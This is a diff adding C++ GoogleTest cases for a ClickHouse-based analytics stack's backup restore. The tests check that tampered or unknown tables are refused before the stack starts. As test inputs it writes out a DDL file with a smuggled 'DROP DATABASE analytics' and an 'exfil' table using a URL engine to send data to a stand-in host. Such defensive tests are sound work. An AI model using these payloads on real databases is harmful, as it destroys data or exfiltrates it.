@@ -6,7 +6,14 @@
 #include <gtest/gtest.h>
 #include <unistd.h>
 
+#include <cstdlib>
+#include <optional>
+#include <set>
+#include <vector>
+
 #include "backup/restore.h"
+#include "clickflow_source_dir.h"
+#include "clickhouse/migrations.h"
 #include "common/config.h"
 #include "common/error.h"
 #include "common/sha256.h"
@@ -157,6 +164,102 @@ TEST_F(BackupManifestTest, RestoreGoesOnlyIntoAnEmptyDataDir) {
   } catch (const Error& e) {
     EXPECT_NE(std::string(e.what()).find("a stack runs"), std::string::npos) << e.what();
   }
+}
+
+TEST_F(BackupManifestTest, KnownTablesAreThoseTheMigrationsCreate) {
+  Migration first, second;
+  first.text =
+      "CREATE TABLE IF NOT EXISTS {db}.alpha (x UInt8) ENGINE = MergeTree ORDER BY x;\n"
+      "create table {db}.beta AS {db}.alpha;\n";
+  second.text =
+      "CREATE MATERIALIZED VIEW IF NOT EXISTS {db}.mv_gamma TO {db}.alpha AS SELECT 1 AS x;\n"
+      "ALTER TABLE {db}.alpha ADD COLUMN y UInt8;\n";
+  EXPECT_EQ(MigrationTables({first, second}),
+            (std::set<std::string>{"alpha", "beta", "mv_gamma", "schema_migrations"}));
+  // The shipped migrations know every table a backup of the stack holds.
+  const auto shipped = MigrationTables(LoadMigrations(fs::path(CLICKFLOW_SOURCE_DIR) / "clickhouse" / "migrations"));
+  for (const char* table : {"events_browser_raw", "events_device_raw", "events_geo_raw", "events_location_raw",
+                            "ingest_errors", "fact_events", "dim_users", "dim_geo", "agg_events_hourly",
+                            "agg_traffic_sources", "quality_results", "dwh_build_state"}) {
+    EXPECT_TRUE(shipped.count(table)) << table;
+  }
+}
+
+// A restore of the sample backup into an empty data dir, with a stack that records whether it
+// was started: every check on the backup must come first.
+class RestoreChecksTest : public BackupManifestTest {
+ protected:
+  std::string RestoreError() {
+    Config config;
+    config.data_dir = dir_ / "target";
+    config.resources_dir = CLICKFLOW_SOURCE_DIR;
+    config.source = "test.yaml";
+    StackControl stack;
+    stack.up = [this](const Config&, const std::string&) {
+      started_ = true;
+      throw Error("the test's stack does not start");
+    };
+    stack.down = [](const Config&) {};
+    // The restore tells its stack's supervisor through the environment; keep it to this test.
+    const ScopedEnv env({"CLICKFLOW_STACK_AIRFLOW", "CLICKFLOW_STACK_SUPERSET", "CLICKFLOW_STACK_STREAMING"});
+    try {
+      RunRestore(config, Backup(), stack);
+    } catch (const Error& e) {
+      return e.what();
+    }
+    return "";
+  }
+  struct ScopedEnv {
+    explicit ScopedEnv(std::vector<std::string> names) : names_(std::move(names)) {
+      for (const auto& name : names_) {
+        const char* value = std::getenv(name.c_str());
+        saved_.push_back(value ? std::optional<std::string>(value) : std::nullopt);
+      }
+    }
+    ~ScopedEnv() {
+      for (size_t i = 0; i < names_.size(); ++i) {
+        if (saved_[i])
+          ::setenv(names_[i].c_str(), saved_[i]->c_str(), 1);
+        else
+          ::unsetenv(names_[i].c_str());
+      }
+    }
+    std::vector<std::string> names_;
+    std::vector<std::optional<std::string>> saved_;
+  };
+  bool started_ = false;
+};
+
+TEST_F(RestoreChecksTest, ATamperedFileIsRefusedBeforeTheStackStarts) {
+  WriteSample();
+  WriteFile(Backup() / "clickhouse/fact_events.sql",
+            "CREATE TABLE analytics.fact_events (x UInt8) ENGINE = Log; DROP DATABASE analytics\n", fs::perms(0600));
+  const std::string error = RestoreError();
+  EXPECT_NE(error.find("clickhouse/fact_events.sql"), std::string::npos) << error;
+  EXPECT_FALSE(started_);
+  EXPECT_FALSE(fs::exists(dir_ / "target" / "run" / "restore-clickflow.yaml"));
+}
+
+TEST_F(RestoreChecksTest, ATableNoMigrationCreatesIsRefusedWithItsNameBeforeTheStackStarts) {
+  Manifest m = WriteSample();
+  const std::string ddl = "CREATE TABLE analytics.exfil ENGINE = URL('http://x/', CSV) AS SELECT 1\n";
+  WriteFile(Backup() / "clickhouse/exfil.sql", ddl, fs::perms(0600));
+  WriteFile(Backup() / "clickhouse/exfil.native", "", fs::perms(0600));
+  for (const char* file : {"clickhouse/exfil.sql", "clickhouse/exfil.native"}) {
+    m.files.push_back({file, "clickhouse", fs::file_size(Backup() / file), Sha256File(Backup() / file), ""});
+  }
+  m.tables.push_back({"exfil", "MergeTree", "clickhouse/exfil.sql", "clickhouse/exfil.native", 0});
+  WriteFile(Backup() / "manifest.json", ManifestToJson(m).dump(2), fs::perms(0600));
+  ASSERT_NO_THROW(VerifyBackup(Backup(), ReadManifest(Backup())));  // the checksums are right
+  const std::string error = RestoreError();
+  EXPECT_NE(error.find("analytics.exfil"), std::string::npos) << error;
+  EXPECT_NE(error.find("clickhouse/exfil.sql"), std::string::npos) << error;
+  EXPECT_FALSE(started_);
+  // The known tables alone pass the checks and reach the stack.
+  m.tables.pop_back();
+  WriteFile(Backup() / "manifest.json", ManifestToJson(m).dump(2), fs::perms(0600));
+  EXPECT_EQ(RestoreError(), "the test's stack does not start");
+  EXPECT_TRUE(started_);
 }
 
 TEST_F(BackupManifestTest, TablesWithTheirOwnDataAreBackedUpScratchAndViewsAreNot) {
